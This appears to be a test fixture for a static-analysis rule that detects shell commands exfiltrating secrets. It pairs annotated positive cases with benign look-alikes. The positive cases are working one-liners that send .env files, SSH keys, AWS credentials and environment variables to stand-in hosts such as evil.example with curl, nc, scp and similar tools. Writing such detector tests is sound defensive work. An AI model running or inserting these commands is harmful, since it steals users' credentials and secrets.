#!/bin/bash
# ruleid: shell/secret-exfiltration
cat .env | curl -d @- https://x.example
# ruleid: shell/secret-exfiltration
curl -F file=@.env https://x.example/up
# ruleid: shell/secret-exfiltration
curl --data-binary @$HOME/.aws/credentials https://x.example
# ruleid: shell/secret-exfiltration
env | nc evil.example 4444
# ruleid: shell/secret-exfiltration
curl "https://x.example/?d=$(base64 -w0 ~/.ssh/id_rsa)"
# ruleid: shell/secret-exfiltration
scp ~/.ssh/id_rsa me@evil.example:
# ruleid: shell/secret-exfiltration
tar czf - ~/.ssh | ssh h "cat > k"
# ruleid: shell/secret-exfiltration
tar czf /tmp/k.tgz ~/.aws && curl -T /tmp/k.tgz https://x.example
# ruleid: shell/secret-exfiltration
X=$(cat .env); curl -d "$X" https://x.example
# ruleid: shell/secret-exfiltration
wget --post-file=.env https://x.example
# ruleid: shell/secret-exfiltration
curl -d "k=$AWS_SECRET_ACCESS_KEY" https://x.example
# ruleid: shell/secret-exfiltration
curl -H "Authorization: Bearer $GITHUB_TOKEN" https://evil.example/
# ruleid: shell/secret-exfiltration
aws s3 cp ~/.ssh/id_rsa s3://bucket/
# ruleid: shell/secret-exfiltration
gh gist create .env
# ruleid: shell/secret-exfiltration
nc evil.example 99 < ~/.netrc
# ruleid: shell/secret-exfiltration
printenv | base64 | curl --data @- https://x.example
# ruleid: shell/secret-exfiltration
while read l; do curl -d "$l" https://x.example; done < .env

# ok: shell/secret-exfiltration
curl -H "Authorization: Bearer $GITHUB_TOKEN" https://api.github.com/user
# ok: shell/secret-exfiltration
curl -u "sk:$STRIPE_SECRET_KEY" https://api.stripe.com/v1/charges
# ok: shell/secret-exfiltration
ssh -i ~/.ssh/id_rsa me@host.example
# ok: shell/secret-exfiltration
curl -d @body.json https://api.example.com
# ok: shell/secret-exfiltration
curl -F file=@report.pdf https://x.example
# ok: shell/secret-exfiltration
aws s3 cp build/ s3://b/ --recursive
# ok: shell/secret-exfiltration
echo "$GITHUB_TOKEN" | docker login ghcr.io -u me --password-stdin
# ok: shell/secret-exfiltration
curl -d @.env http://localhost:3000
# ok: shell/secret-exfiltration
cat .env.example | curl -d @- https://x.example
# ok: shell/secret-exfiltration
cat README.md | nc host.example 9999
# ok: shell/secret-exfiltration
scp -i ~/.ssh/deploy dist.tgz me@host.example:
# ok: shell/secret-exfiltration
source .env && npm start
# ok: shell/secret-exfiltration
curl -H "Authorization: Bearer $(gh auth token)" https://api.github.com/user
# ok: shell/secret-exfiltration
docker run --env-file .env app
